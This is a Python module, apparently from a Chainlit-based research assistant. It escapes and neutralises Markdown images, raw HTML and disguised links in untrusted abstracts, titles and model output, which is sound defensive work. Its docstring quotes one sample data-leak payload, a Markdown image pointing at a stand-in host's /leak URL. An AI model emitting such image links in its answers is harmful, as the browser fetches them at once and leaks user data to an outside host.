"""Untrusted text (abstracts, titles, questions, model output) made inert for the chat's Markdown renderer.

Chainlit renders message and panel content as Markdown. Text we did not write must never become an
image (the browser fetches it at once: an abstract with ``![x](http://host/leak?q=...)`` leaked on panel
open), raw HTML, or a link that hides where it goes. Abstracts and titles are shown literally; model
output keeps its [n] markers and emphasis but loses images, HTML and disguised links.
"""

from __future__ import annotations

import re

from assistant.core.text import safe_url, url_host

_MARKDOWN_ACTIVE = re.compile(r"([\\`*_\[\]()!<>#|~{}])")
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(([^)\n]*)\)")
_LINK = re.compile(r"\[([^\]\n]+)\]\(([^)\n]*)\)")
_REFERENCE_DEFINITION = re.compile(r"^(\s{0,3})\[([^\]\n]+)\]:", re.M)


def literal(text: str) -> str:
    """Plain text that Markdown shows exactly as written (every active character escaped)."""
    return _MARKDOWN_ACTIVE.sub(r"\\\1", text.replace("&", "&amp;"))


def link(url: str | None) -> str:
    """A Markdown link to an http(s) URL, its text the URL itself (so the host shows); nothing for other schemes."""
    checked = safe_url(url)
    return f"[{literal(checked)}](<{checked}>)" if checked else ""


def inert_answer(text: str) -> str:
    """Model output with images, raw HTML and disguised links neutralised; [n] markers and emphasis kept."""
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    text = _IMAGE.sub(lambda m: f"{m[1]} ({_where(m[2])})" if m[1] else f"({_where(m[2])})", text)
    text = _LINK.sub(lambda m: f"{m[1]} ({_where(m[2])})", text)
    return _REFERENCE_DEFINITION.sub(r"\1\\[\2]:", text)


def _where(url: str) -> str:
    checked = safe_url(url.strip().strip("<>").split(" ")[0])
    return f"link to {url_host(checked)}" if checked else "link removed"
